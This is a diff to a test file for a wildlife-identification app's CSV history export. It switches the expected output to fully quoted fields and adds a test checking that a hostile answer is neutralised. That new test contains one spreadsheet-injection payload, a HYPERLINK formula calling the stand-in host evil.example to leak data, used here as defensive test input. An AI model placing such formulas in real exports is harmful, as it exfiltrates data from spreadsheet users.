@@ -1,4 +1,5 @@
 import type { IdentificationView } from '@wildid/common';
+import { validAnimalAnswer } from '@wildid/common/testing';
 import { io } from 'socket.io-client';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { type Browser, asBrowser, receiveSignInLink, requestMagicLink, sessionCookieOf, signIn, submitSignIn } from './support/accounts';
@@ -290,9 +291,25 @@ describe('accounts: magic-link sign-in, sessions and history', () => {
     expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
     expect(csv.headers.get('content-disposition')).toMatch(/attachment; filename="wildid-history.csv"/);
     const lines = (await csv.text()).trim().split('\r\n');
-    expect(lines[0]).toBe('date,status,common_name,scientific_name,confidence,kingdom,phylum,class,order,family,genus,species,conservation_status');
+    expect(lines[0]).toBe(
+      '"date","status","common_name","scientific_name","confidence","kingdom","phylum","class","order","family","genus","species","conservation_status"',
+    );
     expect(lines).toHaveLength(4);
-    expect(lines[1]).toMatch(/^\d{4}-\d\d-\d\dT[^,]+,completed,Red fox,Vulpes vulpes,0\.93,Animalia,Chordata,Mammalia,Carnivora,Canidae,Vulpes,Vulpes vulpes,LC$/);
+    expect(lines[1]).toMatch(
+      /^"\d{4}-\d\d-\d\dT[^,]+","completed","Red fox","Vulpes vulpes","0\.93","Animalia","Chordata","Mammalia","Carnivora","Canidae","Vulpes","Vulpes vulpes","LC"$/,
+    );
+  });
+  it('exports a hostile model answer with every field quoted and its formulas neutralised', async () => {
+    const browser = await signIn(stack.gatewayUrl, smtp, 'spreadsheet@example.org');
+    stack.fake.script({ kind: 'answer', content: validAnimalAnswer({ commonName: 'x;=HYPERLINK("http://evil.example/?leak","Fox")' }) });
+    const socket = await connectSocket(stack.gatewayUrl);
+    await followIdentification(socket, await uploadAs(browser));
+    socket.disconnect();
+
+    const csv = await fetch(`${stack.gatewayUrl}/api/me/identifications/export?format=csv`, { headers: asBrowser(browser) });
+    const line = (await csv.text()).trim().split('\r\n')[1];
+
+    expect(line).toContain(',"completed","x;\'=HYPERLINK(""http://evil.example/?leak"",""Fox"")","Vulpes vulpes",');
   });
 });
 
